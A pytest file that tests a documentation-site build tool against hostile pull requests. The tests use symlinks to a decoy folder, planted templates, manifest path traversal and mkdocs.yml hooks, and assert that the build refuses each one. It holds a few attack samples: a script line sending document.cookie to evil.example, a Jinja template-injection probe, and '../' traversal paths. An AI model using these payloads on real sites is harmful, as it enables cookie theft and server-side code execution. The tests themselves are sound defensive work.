"""A hostile pull request against the build machine: each attack runs in a throw-away copy of
the project, and a decoy folder outside it must be byte-identical afterwards.

The decoy stands for what a link could reach on a maintainer's machine or a CI runner: a home
folder, the checkout's .git, another project.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from tests.helpers.project import entry, make_project
from tests.helpers.site import PROJECT

ERROR_LINE = re.compile(r"^(\S+?)(?::\d+:\d+)?: error\[(B00\d)\]", re.M)


def tree_hash(root: Path) -> str:
    """Every path, type, mode and byte under `root`, links not followed."""
    h = hashlib.sha256()
    for folder, dirs, files in sorted(os.walk(root, followlinks=False)):
        dirs.sort()
        for name in sorted(dirs + files):
            p = Path(folder) / name
            st = p.lstat()
            h.update(f"{p.relative_to(root)}\0{st.st_mode}\0".encode())
            if p.is_symlink():
                h.update(os.readlink(p).encode())
            elif p.is_file():
                h.update(p.read_bytes())
    return h.hexdigest()


@pytest.fixture
def decoy(tmp_path) -> Path:
    d = tmp_path / "decoy"
    (d / ".git").mkdir(parents=True)
    (d / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (d / "secret.md").write_text("# private notes\n\nNOT-FOR-PUBLICATION\n")
    (d / "notes").mkdir()
    (d / "notes" / "todo.md").write_text("keep me\n")
    return d


@pytest.fixture
def project(tmp_path) -> Path:
    root = make_project(tmp_path / "project", {"MAG-2023-0001": entry("MAG-2023-0001").replace("event: \"2024-05-01\"", "event: \"2023-05-01\""), "MAG-2024-0001": entry("MAG-2024-0001")})
    shutil.copytree(PROJECT / "docs", root / "docs")
    shutil.copy2(PROJECT / "mkdocs.yml", root / "mkdocs.yml")
    return root


def build(project: Path) -> tuple[int, str, list[tuple[str, str]]]:
    env = dict(os.environ, PYTHONPATH=str(PROJECT / "src"), XDG_CACHE_HOME=str(project.parent / "xdg"))
    proc = subprocess.run([sys.executable, "-m", "accessgap", "build"], cwd=project, env=env,
                          capture_output=True, text=True, timeout=600)
    out = proc.stdout + proc.stderr
    assert "Traceback" not in out, out
    return proc.returncode, out, ERROR_LINE.findall(out)


def attack(project: Path, decoy: Path, code: str, where: str) -> str:
    """Run the build; it must refuse with `code` at `where`, and leave the decoy alone."""
    before = tree_hash(decoy)
    rc, out, errors = build(project)
    assert rc == 1, out
    assert (where, code) in errors, out
    assert tree_hash(decoy) == before
    site = project / "site"
    assert site.is_symlink() or not site.exists() or "NOT-FOR-PUBLICATION" not in _site_text(project)
    return out


def _site_text(project: Path) -> str:
    return "".join(p.read_text(errors="replace") for p in (project / "site").rglob("*") if p.is_file())


def test_the_tree_hash_sees_a_change(decoy):
    before = tree_hash(decoy)
    (decoy / "notes" / "todo.md").write_text("changed\n")
    assert tree_hash(decoy) != before


def test_B001_a_linked_generated_docs_is_refused_and_the_target_kept(project, decoy):
    (project / "generated").mkdir()
    (project / "generated" / "docs").symlink_to(decoy, target_is_directory=True)
    out = attack(project, decoy, "B001", "generated/docs")
    assert "symbolic link" in out


def test_B001_a_linked_docs_folder_is_not_published(project, decoy):
    shutil.rmtree(project / "docs")
    (project / "docs").symlink_to(decoy, target_is_directory=True)
    attack(project, decoy, "B001", "docs")
    assert not (project / "generated").exists()  # nothing written


def test_B001_a_linked_page_in_docs(project, decoy):
    (project / "docs" / "leak.md").symlink_to(decoy / "secret.md")
    attack(project, decoy, "B001", "docs/leak.md")


@pytest.mark.parametrize("folder", ["site", ".cache", "registry/entries/2024"])
def test_B001_links_where_the_build_writes_or_reads(project, decoy, folder):
    target = project / folder
    if target.exists():
        shutil.rmtree(target)
    target.parent.mkdir(parents=True, exist_ok=True)
    target.symlink_to(decoy, target_is_directory=True)
    attack(project, decoy, "B001", folder)


def test_B001_a_special_file_in_docs(project, decoy):
    os.mkfifo(project / "docs" / "pipe.md")
    attack(project, decoy, "B001", "docs/pipe.md")


def test_B001_a_committed_file_in_generated_is_not_published(project, decoy):
    rc, out, _ = build(project)
    assert rc == 0, out
    planted = project / "generated" / "docs" / "entries" / "MAG-2099-0001.md"
    planted.write_text("# Unreviewed\n\n[Claim your prize](https://evil.example/)\n")
    attack(project, decoy, "B001", "generated/docs/entries/MAG-2099-0001.md")
    assert "Unreviewed" not in _site_text(project)


def test_B001_a_committed_theme_template_is_not_used(project, decoy):
    rc, out, _ = build(project)
    assert rc == 0, out
    assert (project / "generated" / "overrides" / "main.html").is_file()  # written by the build
    planted = project / "generated" / "overrides" / "partials" / "footer.html"
    planted.parent.mkdir(parents=True)
    planted.write_text("{{ config.__class__.__init__.__globals__ }} UNREVIEWED-TEMPLATE\n")
    attack(project, decoy, "B001", "generated/overrides/partials/footer.html")
    assert "UNREVIEWED-TEMPLATE" not in _site_text(project)


def test_an_edited_theme_template_is_replaced_by_the_packaged_one(project, decoy):
    rc, out, _ = build(project)
    assert rc == 0, out
    (project / "generated" / "overrides" / "main.html").write_text("EDITED-TEMPLATE {% extends 'base.html' %}\n")
    rc, out, _ = build(project)
    assert rc == 0, out
    assert "EDITED-TEMPLATE" not in _site_text(project)
    assert 'rel="alternate" type="application/atom+xml"' in (project / "site" / "index.html").read_text()


def test_the_build_deletes_only_what_it_wrote(project, decoy):
    rc, out, _ = build(project)
    assert rc == 0, out
    manifest = project / "generated" / ".docs.manifest.json"
    files = json.loads(manifest.read_text())["files"]
    assert "entries/MAG-2024-0001.md" in files
    # A manifest naming files outside the output folder (or links in it) removes nothing there.
    manifest.write_text(json.dumps({"files": files + ["../../decoy/secret.md", "../../../decoy/notes/todo.md"]}))
    before = tree_hash(decoy)
    (project / "registry" / "entries" / "2024" / "MAG-2024-0001.yaml").unlink()
    (project / "registry" / "entries" / "2024" / "MAG-2024-0002.yaml").write_text(entry("MAG-2024-0002"))
    rc, out, _ = build(project)
    assert rc == 0, out
    assert not (project / "generated" / "docs" / "entries" / "MAG-2024-0001.md").exists()  # its own stale page went
    assert tree_hash(decoy) == before


@pytest.mark.parametrize("change, where", [
    ({"hooks": ["evil.py"]}, "mkdocs.yml"),
    ({"site_dir": "../decoy"}, "mkdocs.yml"),
    ({"site_dir": "registry"}, "mkdocs.yml"),
    ({"docs_dir": "../decoy"}, "mkdocs.yml"),
    ({"plugins": ["search", "macros"]}, "mkdocs.yml"),
    ({"markdown_extensions": ["pymdownx.snippets"]}, "mkdocs.yml"),
    ({"repo_url": "https://github.com/example/registry"}, "mkdocs.yml"),
    ({"theme": {"name": "material", "custom_dir": "overrides"}}, "mkdocs.yml"),
    ({"theme": {"name": "material"}}, "mkdocs.yml"),
    ({"draft_docs": "/api/\n/entries/\n"}, "mkdocs.yml"),  # pages the build would copy unrendered
])
def test_B002_mkdocs_yml_cannot_run_code_or_write_elsewhere(project, decoy, change, where):
    cfg = yaml.safe_load((project / "mkdocs.yml").read_text())
    cfg.update(change)
    (project / "mkdocs.yml").write_text(yaml.safe_dump(cfg, sort_keys=False))
    (project / "evil.py").write_text(f"open({str(decoy / 'pwned')!r}, 'w').write('x')\n")
    attack(project, decoy, "B002", where)
    assert not (decoy / "pwned").exists()


def test_B003_a_script_in_a_hand_written_page_stops_the_deploy(project, decoy):
    (project / "docs" / "about.md").write_text(
        (project / "docs" / "about.md").read_text() + '\n<div markdown="0"><script>fetch("https://evil.example/"+document.cookie)</script></div>\n')
    attack(project, decoy, "B003", "site/about/index.html")


def test_B004_a_broken_link_fails_the_strict_build(project, decoy):
    page = project / "docs" / "about.md"
    page.write_text(page.read_text() + "\n[gone](no-such-page.md)\n")
    out = attack(project, decoy, "B004", "docs/about.md")
    assert "no-such-page.md" in out
